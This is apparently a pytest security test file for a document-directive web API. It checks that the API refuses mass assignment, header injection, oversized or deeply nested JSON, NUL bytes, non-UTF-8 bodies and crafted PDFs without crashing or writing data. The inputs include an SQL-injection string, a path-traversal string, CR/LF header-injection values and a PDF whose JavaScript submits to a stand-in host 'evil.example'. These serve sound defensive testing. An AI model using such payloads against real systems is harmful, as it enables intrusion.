"""Hostile input: none may crash a worker (5xx), hang, or write anything.

Mass assignment on every JSON write route, CR/LF in the names that end up in Content-Disposition,
huge and deeply nested JSON, NUL bytes and lone surrogates, non-UTF-8 bodies, and crafted PDFs
(JavaScript, embedded files, encryption, malformed xref) posted to ``POST /v1/verify``. After each
group the row count of every table (read over a separate connection) and the stored files are
compared with the counts before.
"""

from __future__ import annotations

import io
import json
import time
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from directive_testing import Actors
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from security_testing import LOG, SyncApi, assert_problem, letter_to, route_table, row_counts, stored_files

from common.testing import TokenFactory
from directive_api.settings import Settings

SERVER_OWNED = {
    "id": "00000000-0000-0000-0000-000000000001",
    "status": "issued",
    "version": 42,
    "number": 7,
    "notation": "07/VPUB-TTĐH",
    "register_code": "HC",
    "issued_on": "2026-01-01",
    "issued_by": "vo-thi-thu",
    "approved_by": "le-xuan-hoa",
    "signed_sha256": "0" * 64,
    "issued_sha256": "0" * 64,
    "drafted_by": "someone-else",
    "public_id": "aaaaaaaa",
    "created_at": "2020-01-01T00:00:00Z",
}


class Guard:
    """Counts rows and stored files before; ``check`` fails if anything was written since."""

    def __init__(self, settings: Settings) -> None:
        self.settings = settings
        self.rows = row_counts(settings.database.url)
        self.files = stored_files(settings.files_dir)

    def check(self, what: str) -> None:
        assert row_counts(self.settings.database.url) == self.rows, what
        assert stored_files(self.settings.files_dir) == self.files, what


def _refused(response: httpx.Response, *allowed: int) -> None:
    assert response.status_code < 500, (response.status_code, response.text[:300])
    assert response.status_code in allowed, (response.status_code, response.text[:300])
    assert_problem(response)


def _draft(api: SyncApi, actors: Actors) -> dict[str, Any]:
    response = api.request("POST", "/v1/directives", json=letter_to(), headers=actors.drafter)
    assert response.status_code == 201, response.text
    data: dict[str, Any] = response.json()
    return data


# Valid bodies of the JSON write routes; a new JSON write route must be added here (the test fails).
BASE_BODIES: dict[tuple[str, str], Callable[[], dict[str, Any]]] = {
    ("POST", "/v1/directives"): letter_to,
    ("PATCH", "/v1/directives/{directive_id}"): lambda: {"subject": "đổi trích yếu"},
    ("POST", "/v1/webhook-subscriptions"): lambda: {"url": "https://hooks.example.org/in", "event_types": ["*"]},
    ("POST", "/v1/orgs"): lambda: {"code": "MOI", "name": "Đơn vị mới", "kind": "ward"},
    ("PATCH", "/v1/orgs/{code}"): lambda: {"name": "Sở Nội vụ"},
    ("POST", "/v1/org-groups"): lambda: {"code": "moi", "name": "Nhóm mới"},
    ("PATCH", "/v1/org-groups/{code}"): lambda: {"name": "Nhóm"},
    ("POST", "/v1/people"): lambda: {
        "id": "moi",
        "full_name": "Người Mới",
        "unit_code": "VPUB",
        "position": "Chuyên viên",
        "roles": ["drafter"],
    },
    ("PATCH", "/v1/people/{person_id}"): lambda: {"position": "Chuyên viên"},
    ("POST", "/v1/directory/import"): lambda: {"units": []},
    ("POST", "/v1/signing-requests/{request_id}/signature"): lambda: {"signature": "AA==", "certificates": ["AA=="]},
    ("POST", "/v1/signing-requests/{request_id}/remote-authorization"): lambda: {"pin": "1", "otp": "1"},
    ("POST", "/v1/edxml/quarantine/{package_id}/map"): lambda: {"unit_code": "SNV"},
    ("POST", "/v1/edxml/quarantine/{package_id}/reject"): lambda: {"reason": "Không rõ cơ quan gửi."},
    ("POST", "/v1/edxml/received/{received_id}/reply"): lambda: {
        "directive_id": "00000000-0000-0000-0000-000000000001"
    },
    ("POST", "/v1/edxml/received/{received_id}/status"): lambda: {"code": "03"},
    ("POST", "/v1/edxml/received/{received_id}/change"): lambda: {"decision": "refuse", "reason": "Không đồng ý."},
}
# Fields a directory entry legitimately takes from the client (a person's id, a unit's notation).
CLIENT_OWNED: dict[tuple[str, str], set[str]] = {
    ("POST", "/v1/people"): {"id"},
    ("POST", "/v1/orgs"): {"notation"},
    ("PATCH", "/v1/orgs/{code}"): {"notation"},
}
ADMIN_PATHS = ("/v1/orgs", "/v1/org-groups", "/v1/people", "/v1/directory", "/v1/webhook", "/v1/edxml/quarantine")
TRANSITION_PREFIX = "/v1/directives/{directive_id}/"


def _json_write_routes(api: SyncApi) -> list[tuple[str, str]]:
    spec = api.app.openapi()["paths"]
    out = []
    for method, path in route_table(api.app):
        if method not in ("POST", "PATCH", "PUT", "DELETE") or path not in spec:
            continue
        body = spec[path][method.lower()].get("requestBody", {})
        if "application/json" in body.get("content", {}):
            out.append((method, path))
    return out


@pytest.mark.slow
def test_mass_assignment_is_refused_on_every_write_route(
    sync_api: SyncApi, actors: Actors, settings: Settings, token_factory: TokenFactory
) -> None:
    doc = _draft(sync_api, actors)
    integration = token_factory.headers("integration-vpub", ["integration", "admin"], "VPUB")
    routes = _json_write_routes(sync_api)
    assert len(routes) >= 8, routes
    missing = [r for r in routes if r not in BASE_BODIES and not r[1].startswith(TRANSITION_PREFIX)]
    assert not missing, f"add a valid body for each of these to BASE_BODIES: {missing}"
    guard = Guard(settings)
    tried = 0
    for method, path in routes:
        base = BASE_BODIES[(method, path)]() if (method, path) in BASE_BODIES else {"comment": "Đồng ý."}
        headers = {**(integration if path.startswith(ADMIN_PATHS) else actors.drafter), "If-Match": doc["etag"]}
        url = path.format(
            directive_id=doc["id"],
            code="SNV",
            person_id="le-xuan-hoa",
            request_id="00000000-0000-0000-0000-000000000000",
            package_id=1,
            received_id="00000000-0000-0000-0000-000000000000",
        )
        for field, value in SERVER_OWNED.items():
            if field in CLIENT_OWNED.get((method, path), set()):
                continue
            response = sync_api.request(method, url, json={**base, field: value}, headers=headers)
            _refused(response, 422)
            # Refused for the injected field alone: the base body is valid, so the route really
            # checked (and forbade) the server-owned field.
            locations = [e["location"] for e in response.json()["errors"]]
            assert locations == [["body", field]], (method, path, response.text[:300])
            tried += 1
    guard.check("mass assignment")
    after = sync_api.request("GET", f"/v1/directives/{doc['id']}", headers=actors.drafter).json()
    assert (after["status"], after["version"], after["number"]) == ("draft", 1, None)
    LOG.info(f"mass assignment: {len(routes)} routes, {tried} requests")


BREAKERS = ["TTĐH\r\nSet-Cookie: a=b", "TTĐH\nX-Injected: 1", "A\rB", "TT\u0085ĐH", "TTĐH\u2028X", 'TT"ĐH']


def test_names_in_content_disposition_cannot_carry_line_breaks(
    sync_api: SyncApi, actors: Actors, settings: Settings
) -> None:
    doc = _draft(sync_api, actors)
    guard = Guard(settings)
    for field in ("drafting_unit", "doc_type"):
        for value in BREAKERS:
            response = sync_api.request(
                "POST", "/v1/directives", json={**letter_to(), field: value}, headers=actors.drafter
            )
            _refused(response, 422)
            if field == "drafting_unit":
                response = sync_api.request(
                    "PATCH",
                    f"/v1/directives/{doc['id']}",
                    json={field: value},
                    headers={**actors.drafter, "If-Match": doc["etag"]},
                )
                _refused(response, 422)
    guard.check("header injection")
    response = sync_api.request("GET", f"/v1/directives/{doc['id']}/pdf", headers=actors.drafter)
    assert response.status_code == 200
    disposition = response.headers["content-disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    assert disposition.startswith("attachment; filename=")
    assert disposition.count("filename=") == 1 and disposition.count("filename*=") == 1


def test_huge_bodies_are_refused_fast(sync_api: SyncApi, actors: Actors, settings: Settings) -> None:
    doc = _draft(sync_api, actors)
    guard = Guard(settings)
    huge_text = "ă" * (5 * 1024 * 1024)  # 10 MB of UTF-8
    cases: list[tuple[str, str, dict[str, Any]]] = [
        ("POST", "/v1/directives", {"json": {**letter_to(), "subject": huge_text}}),
        ("POST", "/v1/directives", {"json": {**letter_to(), "body": [{"kind": "paragraph", "text": "x"}] * 200_000}}),
        ("PATCH", f"/v1/directives/{doc['id']}", {"json": {"subject": huge_text}}),
        ("POST", f"/v1/directives/{doc['id']}/submit", {"json": {"comment": huge_text}}),
    ]
    for method, url, kwargs in cases:
        started = time.monotonic()
        response = sync_api.request(method, url, headers={**actors.drafter, "If-Match": doc["etag"]}, **kwargs)
        elapsed = time.monotonic() - started
        _refused(response, 413)  # refused by size before the body is parsed
        assert elapsed < 10, (url, elapsed)
    big_pdf = b"%PDF-1.7\n" + b"0" * (settings.max_verify_bytes + 1)
    response = sync_api.request(
        "POST", "/v1/verify", content=big_pdf, headers={**actors.drafter, "Content-Type": "application/pdf"}
    )
    _refused(response, 413)
    guard.check("huge bodies")


def test_deeply_nested_json_is_refused(sync_api: SyncApi, actors: Actors, settings: Settings) -> None:
    doc = _draft(sync_api, actors)
    guard = Guard(settings)
    for depth in (1_000, 100_000):
        for nested in ("[" * depth + "]" * depth, '{"a":' * depth + "1" + "}" * depth):
            for method, url in (("POST", "/v1/directives"), ("PATCH", f"/v1/directives/{doc['id']}")):
                body = ('{"subject": ' + nested + "}").encode()
                response = sync_api.request(
                    method,
                    url,
                    content=body,
                    headers={**actors.drafter, "Content-Type": "application/json", "If-Match": doc["etag"]},
                )
                _refused(response, 400, 413, 422)
    guard.check("nested json")


def _q(value: str) -> str:
    """Percent-encoded UTF-8, lone surrogates included (as the invalid bytes a client can send)."""
    return quote(value, safe="", errors="surrogatepass")


INVALID_STRINGS = ["a\x00b", "\x00", "\ud800", "a\udfffb", "\udc80\ud800", "x\x1b[31m"]
ODD_STRINGS = ["\ufeff\u202eTTĐH", "\U0010ffff", "%00", "' OR 1=1 --", "..%2f..%2fetc"]


def test_nul_bytes_and_lone_surrogates_are_refused(sync_api: SyncApi, actors: Actors, settings: Settings) -> None:
    doc = _draft(sync_api, actors)
    guard = Guard(settings)
    tried = 0
    for value in INVALID_STRINGS + ODD_STRINGS:
        bodies: list[tuple[str, str, dict[str, Any]]] = [
            ("POST", "/v1/directives", {**letter_to(), "subject": value}),
            ("POST", "/v1/directives", {**letter_to(), "signer_id": value}),
            ("POST", "/v1/directives", {**letter_to(), "addressees": [{"unit": value}]}),
            ("POST", "/v1/directives", {**letter_to(), "issuer_code": value}),
            ("POST", "/v1/directives", {**letter_to(), "body": [{"kind": "paragraph", "text": value}]}),
            ("PATCH", f"/v1/directives/{doc['id']}", {"subject": value}),
            ("PATCH", f"/v1/directives/{doc['id']}", {"info_recipients": [{"units": [value]}]}),
            ("POST", f"/v1/directives/{doc['id']}/return", {"comment": value}),
        ]
        for method, url, body in bodies if value in INVALID_STRINGS else []:
            # json.dumps writes lone surrogates as \\udXXX escapes, exactly what a hostile client sends
            response = sync_api.request(
                method,
                url,
                content=json.dumps(body).encode(),
                headers={**actors.drafter, "If-Match": '"999"', "Content-Type": "application/json"},
            )
            _refused(response, 422)
            tried += 1
        for path in ("/v1/orgs/{v}", "/v1/people/{v}", "/v1/org-groups/{v}", "/v1/registers/{v}/HC/2026"):
            response = sync_api.request("GET", path.format(v=_q(value)), headers=actors.drafter)
            assert response.status_code < 500, (path, value, response.text[:300])
            tried += 1
        for query in ("q", "group", "kind"):
            response = sync_api.request("GET", f"/v1/orgs?{query}={_q(value)}", headers=actors.drafter)
            assert response.status_code < 500, (query, value, response.text[:300])
            tried += 1
        response = sync_api.request("GET", f"/v1/people?unit={_q(value)}&role={_q(value)}", headers=actors.drafter)
        assert response.status_code < 500, (value, response.text[:300])
        response = sync_api.request("GET", f"/v1/directives?cursor={_q(value)}", headers=actors.drafter)
        assert response.status_code < 500, (value, response.text[:300])
        tried += 2
    # Created documents are the only writes a valid-looking request may make: none of these is valid.
    guard.check("nul bytes and surrogates")
    LOG.info(f"nasty strings: {tried} requests")


def test_non_utf8_bodies_are_refused(sync_api: SyncApi, actors: Actors, settings: Settings) -> None:
    doc = _draft(sync_api, actors)
    guard = Guard(settings)
    bodies = [
        b"\xff\xfe\xfd{}",
        '{"subject": "Công văn"}'.encode("cp1258"),
        b'{"comment": "\xe0\x80\x80"}',  # an overlong encoding
        b'{"subject": "\xc3\x28"}',
        b'{"subject": "\xed\xa0\x80"}',  # an encoded surrogate (invalid UTF-8)
    ]
    for content in bodies:
        for method, url in (
            ("POST", "/v1/directives"),
            ("PATCH", f"/v1/directives/{doc['id']}"),
            ("POST", f"/v1/directives/{doc['id']}/submit"),
        ):
            response = sync_api.request(
                method,
                url,
                content=content,
                headers={**actors.drafter, "Content-Type": "application/json", "If-Match": doc["etag"]},
            )
            _refused(response, 400, 415, 422)
    guard.check("non-utf8")


def _pdf(build: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _hostile_pdfs() -> dict[str, bytes]:
    def javascript(w: PdfWriter) -> None:
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('x'); this.submitForm('https://evil.example/');"),
            }
        )
        w._root_object[NameObject("/OpenAction")] = w._add_object(action)

    def embedded(w: PdfWriter) -> None:
        w.add_attachment("payload.exe", b"MZ" + b"\x00" * 500)

    def encrypted(w: PdfWriter) -> None:
        w.encrypt(user_password="u", owner_password="o", algorithm="AES-256")

    def encrypted_empty_password(w: PdfWriter) -> None:
        w.encrypt(user_password="", owner_password="o", algorithm="RC4-128")

    def open_action(w: PdfWriter) -> None:
        w._root_object[NameObject("/OpenAction")] = w._root_object.get("/Pages", TextStringObject("x"))

    plain = _pdf(lambda _w: None)
    pdfs = {
        "javascript": _pdf(javascript),
        "embedded file": _pdf(embedded),
        "encrypted": _pdf(encrypted),
        "encrypted, empty user password": _pdf(encrypted_empty_password),
        "odd open action": _pdf(open_action),
        "xref offsets wrong": plain.replace(b"0000000015 00000 n", b"0000099999 00000 n"),
        "xref missing": plain[: plain.rfind(b"xref")] + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n",
        "startxref garbage": plain[: plain.rfind(b"startxref")] + b"startxref\n-12\n%%EOF\n",
        "truncated": plain[: len(plain) // 2],
        "header only": b"%PDF-1.7\n",
        "recursive object": (
            b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 1 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
        ),
        "fake signature dictionary": plain.replace(
            b"%%EOF", b"5 0 obj\n<< /Type /Sig /ByteRange [0 99999999 0 0] /Contents <00> >>\nendobj\n%%EOF"
        ),
        "deep array": b"%PDF-1.7\n1 0 obj\n" + b"[" * 50_000 + b"]" * 50_000 + b"\nendobj\n%%EOF\n",
    }
    return pdfs


@pytest.mark.slow
def test_hostile_pdfs_to_verify(sync_api: SyncApi, actors: Actors, settings: Settings) -> None:
    pdfs = _hostile_pdfs()
    guard = Guard(settings)
    verdicts: dict[str, str] = {}
    for name, data in pdfs.items():
        for content_type in ("application/pdf", "application/octet-stream", "text/plain"):
            started = time.monotonic()
            response = sync_api.request(
                "POST", "/v1/verify", content=data, headers={**actors.drafter, "Content-Type": content_type}, timeout=20
            )
            assert time.monotonic() - started < 20, name
            assert response.status_code < 500, (name, response.text[:300])
            if content_type == "text/plain":
                _refused(response, 415)
            elif response.status_code == 200:
                result = response.json()
                assert result["signatures"] == [] and result["verdict"] == "unsigned", (name, result)
                assert result["registered_document"] is None
                verdicts[name] = "unsigned"
            else:
                _refused(response, 415, 422)
                verdicts[name] = str(response.status_code)
    guard.check("hostile pdfs")
    assert verdicts["javascript"] in ("unsigned", "422")
    LOG.info(f"hostile pdfs: {len(pdfs)} files, verdicts {verdicts}")
